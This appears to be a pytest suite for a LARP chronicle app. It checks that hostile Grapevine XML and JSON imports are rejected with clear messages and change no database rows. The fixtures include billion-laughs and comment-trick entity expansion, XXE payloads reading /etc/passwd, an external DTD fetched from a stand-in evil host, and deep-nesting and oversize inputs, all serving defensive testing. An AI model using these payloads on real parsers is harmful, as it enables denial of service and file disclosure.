"""Hostile files for the Grapevine and the chronicle (JSON) imports (issue 19 item 1 and the hostile-file set).

Each file is made here, each is refused with a message that says what is wrong, and after each the
database holds exactly what it held before (every table counted). The Grapevine files go through
the web upload and through `larp import-grapevine`; the JSON files through `larp import`.
"""

from __future__ import annotations

import json
import random
from io import BytesIO

import pytest

from larp.db import db
from larp.models import MODELS
from tests.support import make_test_app

LAUGHS = ('<?xml version="1.0"?><!DOCTYPE grapevine [<!ENTITY a "ha">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
          + ']><grapevine version="3"><vampire name="Laugh" clan="Brujah"><notes>&i;</notes></vampire></grapevine>')
#: The trick the attack used: a comment holding "<x" before the DOCTYPE hid it from the old guard.
COMMENT_TRICK = ('<?xml version="1.0"?><!--<x--><!DOCTYPE grapevine [<!ENTITY e "' + "A" * 1000 + '">]>'
                 '<grapevine version="3"><vampire name="Expanded" clan="Brujah"><notes>' + "&e;" * 4000
                 + '</notes></vampire></grapevine>')
PLAIN = '<grapevine version="3"><vampire name="{name}" clan="Brujah">{inside}</vampire></grapevine>'

GRAPEVINE_FILES = {
    "billion-laughs.gex": (LAUGHS.encode(), "DOCTYPE"),
    "comment-before-doctype.gex": (COMMENT_TRICK.encode(), "DOCTYPE"),
    "pi-before-doctype.gex": (COMMENT_TRICK.replace("<!--<x-->", "<?pi <x?>").encode(), "DOCTYPE"),
    "utf16-comment-trick.gex": (("\ufeff" + COMMENT_TRICK).encode("utf-16-le"), "DOCTYPE"),
    "external-entity.gex": (b'<?xml version="1.0"?><!DOCTYPE grapevine [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                            b'<grapevine version="3"><vampire name="&x;"/></grapevine>', "DOCTYPE"),
    "external-dtd.gex": (b'<!DOCTYPE grapevine SYSTEM "http://evil.example/g.dtd"><grapevine version="3"/>',
                         "DOCTYPE"),
    "parameter-entity.gex": (b'<!DOCTYPE g [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><grapevine/>', "DOCTYPE"),
    "undefined-entity.gex": (PLAIN.format(name="&e;", inside="").encode(), "not well-formed"),
    "surrogate-reference.gex": (PLAIN.format(name="&#xD800;", inside="").encode(), "not well-formed"),
    "lowercase-doctype.gex": (b'<!doctype grapevine><grapevine version="3"/>', "not well-formed"),
    "deep-nesting.gex": (b'<grapevine version="3">' + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</grapevine>",
                         "nests elements"),
    "too-large.gex": (b'<grapevine version="3">' + b" " * (1024 * 1024) + b"</grapevine>", "at most 1 MB"),
    "random-binary.gex": (random.Random(19).randbytes(5000), "not well-formed"),
    "gzip.gex": (b"\x1f\x8b\x08\x00" + random.Random(7).randbytes(2000), "not well-formed"),
    "odd-utf16.gex": (b"\xff\xfe<\x00g\x00r", "not well-formed"),
    "only-a-bom.gex": (b"\xef\xbb\xbf", "not well-formed"),
    "not-grapevine.gex": (b'<?xml version="1.0"?><html><body/></html>', "not a Grapevine file"),
}
#: Files whose every record is refused (too long for the database): the preview says why, nothing is imported.
GRAPEVINE_RECORDS = {
    "megabyte-name.gex": (PLAIN.format(name="N" * 1_000_000, inside="").encode(), "at most 120 characters"),
    "huge-notes.gex": (PLAIN.format(name="Notes", inside="<notes>" + "n" * 50_000 + "</notes>").encode(),
                       "at most 20,000 characters"),
    "huge-trait.gex": (PLAIN.format(name="Trait", inside='<traitlist name="Physical"><trait name="'
                                    + "Q" * 5000 + '"/></traitlist>').encode(), "at most 80 characters"),
}


def table_counts() -> dict[str, int]:
    with db.connection_context():
        return {m._meta.table_name: m.select().count() for m in MODELS}


@pytest.fixture
def organiser_app(tmp_path):
    app = make_test_app(tmp_path, GRAPEVINE_MAX_BYTES=1024 * 1024, CHRONICLE_MAX_BYTES=1024 * 1024)
    client = app.test_client()
    from tests.support import AuthActions

    AuthActions(client).login("boss", "organiser")
    return app, client


@pytest.mark.parametrize("name", sorted(GRAPEVINE_FILES))
def test_a_hostile_grapevine_upload_is_refused_and_changes_nothing(organiser_app, name):
    """Issue 19 item 1: entity tricks (the comment-before-DOCTYPE one included), external references,
    deep nesting, a file past the size limit, binary and broken encodings: a 422 naming the trouble."""
    app, client = organiser_app
    data, message = GRAPEVINE_FILES[name]
    before = table_counts()
    response = client.post("/import", data={"file": (BytesIO(data), name)}, content_type="multipart/form-data")
    assert response.status_code == 422, response.get_data(as_text=True)[:300]
    assert message in response.get_data(as_text=True)
    assert table_counts() == before


@pytest.mark.parametrize("name", sorted(GRAPEVINE_FILES))
def test_a_hostile_grapevine_file_is_refused_by_the_command_line(organiser_app, name, tmp_path):
    """Issue 19 item 1: the same files through `larp import-grapevine` (which had no size limit)."""
    app, _ = organiser_app
    data, message = GRAPEVINE_FILES[name]
    path = tmp_path / name
    path.write_bytes(data)
    before = table_counts()
    result = app.test_cli_runner().invoke(args=["import-grapevine", "--yes", str(path)])
    assert result.exit_code == 1
    assert message in result.output and "Traceback" not in result.output
    assert table_counts() == before


@pytest.mark.parametrize("name", sorted(GRAPEVINE_RECORDS))
def test_a_record_too_long_for_the_database_is_refused_with_its_reason(organiser_app, name, tmp_path):
    """Issue 19 items 1 and 8: a field longer than its column (a 1 MB name, 50,000 characters of notes, a
    5,000-character Trait): the preview marks the record failed with the limit; nothing can be imported."""
    app, client = organiser_app
    data, message = GRAPEVINE_RECORDS[name]
    before = table_counts()
    location = client.post("/import", data={"file": (BytesIO(data), name)},
                           content_type="multipart/form-data").headers["Location"]
    assert message in client.get(location).get_data(as_text=True)
    assert client.post(location, data={"selected": ["0"]}).status_code == 422
    path = tmp_path / name
    path.write_bytes(data)
    result = app.test_cli_runner().invoke(args=["import-grapevine", "--yes", str(path)])
    assert message in result.output and "Traceback" not in result.output
    counts = table_counts()
    counts.pop("pendingimport"), before.pop("pendingimport")  # the web upload waits for its confirmation
    assert counts == before


# ----------------------------------------------------------------------------------------- JSON


def valid_export(app) -> dict:
    """The demo chronicle's export, renamed and with fresh card codes (it replaces the untouched demo)."""
    from larp.services.chronicles import get_chronicle
    from larp.services.transfer import export_chronicle

    with app.app_context(), db.connection_context():
        data = export_chronicle(get_chronicle())
    data["chronicle"]["name"] = "Imported"
    data["rulings"].append({"game_session": data["game_sessions"][0]["number"], "narrator": "boss", "kind": "damage",
                            "created_at": "2026-11-29T20:00:00", "summary": "A lethal wound.", "inputs": {"levels": 1},
                            "outcome": {}, "steps": [], "undone_at": None, "undone_by": None,
                            "participants": [{"character": data["characters"][0]["short_code"], "role": "target",
                                              "before": None}]})
    for i, character in enumerate(data["characters"]):
        old = character["short_code"]
        character["short_code"], character["card_token"] = f"IMP{i:03d}", None
        for key in ("trait_losses", "ability_spends", "torpors"):
            for entry in data[key]:
                if entry["character"] == old:
                    entry["character"] = character["short_code"]
        for ruling in data["rulings"]:
            for part in ruling["participants"]:
                if part["character"] == old:
                    part["character"] = character["short_code"]
    return data


def _mutate(path: str, value):
    """A change to the valid export: set the value at ``path`` (dots and [i]) to ``value``."""

    def change(data):
        target, keys = data, path.replace("[", ".").replace("]", "").split(".")
        for key in keys[:-1]:
            target = target[int(key)] if isinstance(target, list) else target[key]
        last = keys[-1]
        if isinstance(target, list):
            target[int(last)] = value
        elif value is _DELETE:
            del target[last]
        else:
            target[last] = value
        return json.dumps(data).encode()

    return change


_DELETE = object()


def _nested(depth_: int):
    def change(data):
        data["rulings"][0]["inputs"] = json.loads("[" * depth_ + "]" * depth_)
        return json.dumps(data).encode()
    return change


JSON_FILES = {
    "binary.json": (lambda data: random.Random(3).randbytes(4000), "not UTF-8"),
    "utf16.json": (lambda data: json.dumps(data).encode("utf-16"), "not UTF-8"),
    "latin1.json": (lambda data: json.dumps({**data, "chronicle": {"name": "Café"}}, ensure_ascii=False)
                    .encode("latin-1"), "not UTF-8"),
    "empty.json": (lambda data: b"", "not a readable JSON"),
    "truncated.json": (lambda data: json.dumps(data).encode()[:300], "not a readable JSON"),
    "array.json": (lambda data: b"[1, 2]", "not a larp chronicle export"),
    "string.json": (lambda data: b'"larp-chronicle"', "not a larp chronicle export"),
    "deep-100000.json": (lambda data: b"[" * 100_000 + b"]" * 100_000, "too deep"),
    "deep-200.json": (_nested(200), "nests deeper"),
    "nan.json": (lambda data: json.dumps(data).replace('"steps": []', '"steps": NaN', 1).encode()
                 if '"steps": []' in json.dumps(data) else json.dumps({**data, "settings": {"x": float("nan")}}).encode(),
                 "NaN"),
    "too-large.json": (lambda data: json.dumps({**data, "pad": "x" * (1024 * 1024)}).encode(), "at most 1 MB"),
    "version-text.json": (_mutate("format_version", "1"), "no valid format version"),
    "settings-list.json": (_mutate("settings", [1]), "settings"),
    "characters-string.json": (_mutate("characters", "all of them"), "lacks"),
    "character-string.json": (_mutate("characters[0]", "Vivienne"), "characters[0]: it must be an object"),
    "name-number.json": (_mutate("characters[0].name", 5), "characters[0].name"),
    "name-megabyte.json": (_mutate("characters[0].name", "N" * 200_000), "at most 120 characters"),
    "name-nul.json": (_mutate("characters[0].name", "A\u0000B"), "NUL"),
    "name-surrogate.json": (lambda data: json.dumps(data).replace(json.dumps(data["characters"][0]["name"]),
                                                                   '"\\ud800"', 1).encode(), "not valid text"),
    "notes-huge.json": (_mutate("characters[0].notes", "n" * 30_000), "at most 20,000"),
    "count-text.json": (_mutate("characters[0].traits[0]", ["physical", "Quick", "2", False]), "count"),
    "count-huge.json": (_mutate("characters[0].traits[0]", ["physical", "Quick", 10**30, False]), "count"),
    "trait-short.json": (_mutate("characters[0].traits[0]", ["physical", "Quick"]), "traits[0]"),
    "staked-text.json": (_mutate("characters[0].staked", "yes"), "staked"),
    "damage-float.json": (_mutate("characters[0].damage_lethal", 1.5), "damage_lethal"),
    "no-short-code.json": (_mutate("characters[0].short_code", _DELETE), "short_code: it is missing"),
    "session-number-text.json": (_mutate("game_sessions[0].number", "1"), "game_sessions[0].number"),
    "date-words.json": (_mutate("game_sessions[0].date", "last Saturday"), "ISO 8601"),
    "ruling-no-kind.json": (_mutate("rulings[0].kind", _DELETE), "rulings[0].kind"),
    "participants-object.json": (_mutate("rulings[0].participants", {}), "participants"),
    "participant-unknown.json": (_mutate("rulings[0].participants", [{"character": "NOSUCH", "role": "x"}]),
                                 "damaged"),
    "duplicate-codes.json": (lambda data: json.dumps({**data, "characters": data["characters"][:1] * 2}).encode(),
                             "damaged"),
}


@pytest.mark.parametrize("name", sorted(JSON_FILES))
def test_a_hostile_chronicle_export_is_refused_and_changes_nothing(organiser_app, name, tmp_path):
    """Issue 19 (hostile-file set): `larp import` with wrong types, missing keys, deep nesting, a file past
    the size limit, wrong encodings, binary: a clear message (naming the place), never a traceback,
    and not one row written."""
    app, _ = organiser_app
    make, message = JSON_FILES[name]
    path = tmp_path / name
    path.write_bytes(make(valid_export(app)))
    before = table_counts()
    result = app.test_cli_runner().invoke(args=["import", str(path)])
    assert result.exit_code == 1, result.output
    assert message in result.output, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert table_counts() == before


def test_the_valid_export_the_hostile_files_start_from_imports(organiser_app, tmp_path):
    """The hostile JSON files are each one change away from a file that imports (so each refusal is the change's)."""
    app, _ = organiser_app
    path = tmp_path / "valid.json"
    path.write_bytes(json.dumps(valid_export(app)).encode())
    before = table_counts()
    result = app.test_cli_runner().invoke(args=["import", str(path)])
    assert result.exit_code == 0, result.output
    with db.connection_context():  # it took the untouched demo's place (one chronicle per install)
        from larp.models import Character, Chronicle

        assert [c.name for c in Chronicle.select()] == ["Imported"]
        assert {c.short_code for c in Character.select()} == {f"IMP{i:03d}" for i in range(before["character"])}
